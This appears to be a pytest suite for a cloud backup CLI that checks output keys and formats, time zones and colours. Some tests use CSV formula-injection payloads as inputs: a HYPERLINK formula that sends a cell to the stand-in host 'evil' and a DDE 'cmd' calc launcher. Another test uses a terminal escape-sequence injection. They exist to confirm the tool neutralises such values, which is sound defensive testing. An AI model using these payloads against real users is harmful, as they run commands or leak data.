"""What is printed, in each format; scripts rely on the keys."""

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from typing import Any

import pytest
import yaml
from attrs import frozen
from click.testing import CliRunner

from cloud_backup.commandline.rendering.output import print_list
from cloud_backup.commandline.running.invocation import Invocation
from cloud_backup_api import models

from .conftest import CommandLine

CONFIGURATION = [*models.BackupConfiguration.FIELDS]
CONFIGURATION.insert(CONFIGURATION.index("frequency") + 1, "schedule")
KEYS: dict[tuple[str, ...], list[str]] = {
    ("agents", "list"): [*models.Agent.FIELDS],
    ("configurations", "list"): CONFIGURATION,
    ("backups", "list", "172418"): [*models.CompletedBackup.FIELDS],
    ("backups", "show", "134691"): [*models.Backup.FIELDS],
    ("backups", "report", "134691"): [
        "duration_seconds" if name == "duration" else name for name in models.BackupReport.FIELDS
    ],
    ("backups", "start", "172418"): ["backup_id", "backup_configuration_id"],
    ("restores", "available"): [*models.AvailableBackup.FIELDS],
    ("restores", "show", "13689"): [
        name for name in models.Restore.FIELDS if name != "encrypted_password"
    ],
    ("activity", "list"): [*models.Activity.FIELDS],
    ("wait", "backup", "134691"): ["backup_id", "state", "is_successful"],
    ("login", "--check"): ["username", "method", "tenant_id", "region", "auth_url"],
}
OF_A_LIST = {"list", "available", "wait"}
COMMANDS = pytest.mark.parametrize("command", KEYS, ids=" ".join)


@COMMANDS
def test_json_has_these_keys(cloud: CommandLine, command: tuple[str, ...]) -> None:
    found = cloud.json(*command)

    assert isinstance(found, list) is (not OF_A_LIST.isdisjoint(command))
    for record in found if isinstance(found, list) else [found]:
        assert list(record) == KEYS[command]


@COMMANDS
def test_yaml_is_the_same(cloud: CommandLine, command: tuple[str, ...]) -> None:
    if "start" in command:  # another time it's another backup
        return
    as_json = cloud.json(*command)

    as_yaml = cloud.done(*command, "--output", "yaml").stdout

    assert yaml.safe_load(as_yaml) == as_json


@COMMANDS
def test_csv_has_a_header_and_is_flat(cloud: CommandLine, command: tuple[str, ...]) -> None:
    text = cloud.done(*command, "-o", "csv").stdout

    rows = list(csv.DictReader(text.splitlines()))
    nested = {"schedule": [f"schedule_{name}" for name in SCHEDULE]}
    for name in ("public_key", "encryption_key"):
        nested[name] = [f"{name}_{part}" for part in models.PublicKey.FIELDS]
    assert rows
    assert list(rows[0]) == [name for key in KEYS[command] for name in nested.get(key, [key])]


SCHEDULE = ["frequency", "time_zone_id", "at", "day", "every_hours"]


def test_values_are_of_plain_kinds(cloud: CommandLine) -> None:
    [listed] = cloud.json("backups", "list", "172418")
    configuration = cloud.json("configurations", "show", "148325")

    assert listed["completed_time"] == "2013-02-12T20:46:11Z"
    assert listed["bytes_searched"] == 1405091840
    assert configuration["missed_backup_action"] == "as_soon_as_possible"
    assert list(configuration["schedule"]) == SCHEDULE
    assert configuration["next_scheduled_run_time"] == "2013-01-10T11:30:00Z"


def test_cells_of_csv(cloud: CommandLine) -> None:
    text = cloud.done("configurations", "show", "148325", "-o", "csv").stdout

    [row] = csv.DictReader(text.splitlines())
    assert row["schedule_day"] == "thursday"
    assert row["is_deleted"] == "false"
    assert row["last_run_time"] == ""
    assert json.loads(row["inclusions"])[0]["path"] == "C:\\backed_up_folder"


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil/"&A1)', '\'=HYPERLINK("http://evil/"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("=5", "'=5"),
        ("-5", "-5"),
        ("+4.5", "+4.5"),
        ("a=b", "a=b"),
        ("a\r=b", "a\r=b"),
        ("a\n=b", "a\n=b"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_no_cell_of_csv_is_a_formula(name: str, cell: str) -> None:
    @frozen
    class Named:
        name: str
        change: int = -5

    with CliRunner().isolation() as (stdout, *_):
        print_list(in_csv(), Named, [Named(name)], ())
        text = stdout.getvalue().decode()

    [row] = csv.DictReader(io.StringIO(text, newline=""))
    assert row == {"name": cell, "change": "-5"}


def in_csv() -> Invocation:
    invocation = Invocation(environ={})
    invocation.output = "csv"
    return invocation


def test_names_of_the_service_are_no_formulas_in_csv(cloud: CommandLine) -> None:
    formula = "=1+1"
    cloud.done("configurations", "create", formula, "--agent", "MBP0", "--include", "/a")

    listed = cloud.done("configurations", "list", "-o", "csv").stdout

    rows = csv.DictReader(listed.splitlines())
    assert f"'{formula}" in {row["backup_configuration_name"] for row in rows}
    assert formula in str(cloud.json("configurations", "list"))


def test_an_empty_list(cloud: CommandLine) -> None:
    command = ("backups", "list", "148325")

    assert cloud.json(*command) == []
    assert yaml.safe_load(cloud.done(*command, "-o", "yaml").stdout) == []
    header = ",".join(KEYS["backups", "list", "172418"])
    assert cloud.done(*command, "-o", "csv").stdout == f"{header}\n"
    assert "Completed" in cloud.done(*command).stdout


@pytest.mark.parametrize(
    "arguments",
    [
        ("-o", "json", "agents", "list"),
        ("agents", "list", "--output=json"),
        ("-o", "csv", "agents", "list", "-o", "json"),
    ],
)
def test_output_is_told_before_or_after_the_verb(
    cloud: CommandLine, arguments: tuple[str, ...]
) -> None:
    assert cloud.done(*arguments).json


def test_tables_into_a_pipe_are_not_cut_and_have_no_colours(cloud: CommandLine) -> None:
    table = cloud.done("configurations", "list").stdout

    assert "Thursday 06:30 America/New_York" in table
    assert table.isascii()
    assert "\x1b" not in table
    assert all(line == line.rstrip() for line in table.splitlines())


def test_times_are_local_unless_told(cloud: CommandLine, monkeypatch: pytest.MonkeyPatch) -> None:
    import time  # noqa: PLC0415 - for tzset, which Windows lacks

    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    try:
        local = cloud.done("backups", "list", "172418").stdout
        in_utc = cloud.done("backups", "list", "172418", "--utc").stdout
        before = cloud.done("--utc", "backups", "list", "172418").stdout
    finally:
        monkeypatch.setenv("TZ", "UTC")
        time.tzset()

    assert "2013-02-12 15:46:11 EST" in local
    assert "2013-02-12 20:46:11 UTC" in in_utc
    assert before == in_utc


def test_a_name_cannot_steer_the_terminal(cloud: CommandLine) -> None:
    evil = "\x1b]0;owned\x07\x1b[2J"
    new = ("--agent", "MBP0", "--include", "/a")
    cloud.done("configurations", "create", f"N{evil}", *new)

    listed = cloud.done("configurations", "list")
    deleted = cloud.done("configurations", "delete", f"N{evil}", "--yes")

    assert "\x1b" not in listed.stdout + listed.stderr + deleted.stderr
    assert "N\N{REPLACEMENT CHARACTER}]0;owned" in listed.stdout


def on_a_terminal(cloud: CommandLine, *arguments: str, **environment: str) -> str:
    """Run a command whose stdout is a terminal of 60 columns, and return what is on it."""
    ours, theirs = pty.openpty()
    command = [sys.executable, "-m", "cloud_backup.commandline", *arguments]
    surroundings = {**os.environ, **cloud.environment, "TERM": "xterm", "COLUMNS": "60"}
    with subprocess.Popen(
        command, stdin=theirs, stdout=theirs, stderr=theirs, env=surroundings | environment
    ) as process:
        os.close(theirs)
        text = b""
        while True:
            try:
                part = os.read(ours, 4096)
            except OSError:  # Linux's way to say that it's over
                part = b""
            if not part:
                break
            text += part
    os.close(ours)
    assert process.returncode == 0, text
    return text.decode()


def test_tables_on_a_terminal_fit_it_and_have_colours(cloud: CommandLine) -> None:
    coloured = on_a_terminal(cloud, "activity", "list")
    plain: Any = re.sub(r"\x1b\[[0-9;]*m", "", coloured)

    assert "\x1b[32m" in coloured
    assert max(len(line) for line in plain.splitlines()) <= 60


@pytest.mark.parametrize(
    ("options", "environment"), [(("--no-color",), {}), ((), {"NO_COLOR": "1"})]
)
def test_colours_can_be_switched_off(
    cloud: CommandLine, options: tuple[str, ...], environment: dict[str, str]
) -> None:
    shown = on_a_terminal(cloud, *options, "activity", "list", **environment)

    assert re.search(r"\x1b\[[0-9;]*3[0-9]", shown) is None
